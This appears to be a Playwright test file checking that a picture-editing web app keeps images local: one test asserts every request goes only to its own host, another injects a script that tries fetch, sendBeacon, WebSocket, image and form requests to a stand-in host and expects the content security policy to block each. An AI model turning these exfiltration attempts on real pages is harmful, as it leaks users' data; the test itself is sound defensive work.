"""The picture stays here: what a visit asks of the network, from its first byte to the result."""

from urllib.parse import urlsplit

from playwright.sync_api import expect

from tests.browser.pictures import gradient_picture
from tests.browser.visitor import download_result, paint_stroke, run_to_the_end, take_picture


def test_a_whole_run_only_asks_and_only_asks_the_hub(visitor, tmp_path):
    gradient_picture(tmp_path / "private-name.png", 640, 400)
    sockets = []
    page = visitor.open_with_moebius()
    page.on("websocket", lambda socket: sockets.append(socket.url))
    page.evaluate("navigator.serviceWorker.ready")
    take_picture(page, tmp_path / "private-name.png")
    paint_stroke(page)
    run_to_the_end(page)
    download_result(page)
    page.reload()
    expect(page.get_by_test_id("model")).not_to_have_attribute("data-pending", "true")
    remote = [
        r for r in visitor.requests if urlsplit(r.url).scheme in {"http", "https", "ws", "wss"}
    ]
    assert len(remote) > 10
    assert {r.method for r in remote} == {"GET"}
    assert [r.url for r in remote if r.post_data_buffer] == []
    assert {urlsplit(r.url).netloc for r in remote} == {urlsplit(visitor.url).netloc}
    assert [r.url for r in remote if "private-name" in r.url] == []
    assert sockets == []


def test_whatever_a_script_tried_the_policy_sends_nothing_elsewhere(visitor):
    page = visitor.open_ready()
    refused = page.evaluate(
        """async () => {
          const refused = [];
          document.addEventListener("securitypolicyviolation", (event) => {
            refused.push(event.effectiveDirective);
          });
          const elsewhere = "https://elsewhere.invalid/";
          await fetch(elsewhere, { method: "POST", body: "picture" }).catch(() => undefined);
          navigator.sendBeacon(elsewhere, "picture");
          try { new WebSocket("wss://elsewhere.invalid/"); } catch { /* refused at once */ }
          new Image().src = elsewhere + "picture.png";
          const form = document.body.appendChild(document.createElement("form"));
          Object.assign(form, { method: "POST", action: elsewhere });
          form.submit();
          await new Promise((resolve) => setTimeout(resolve, 200));
          return refused;
        }"""
    )
    assert {"connect-src", "img-src", "form-action"} <= set(refused)
    assert refused.count("connect-src") >= 3
    assert visitor.uploads == []
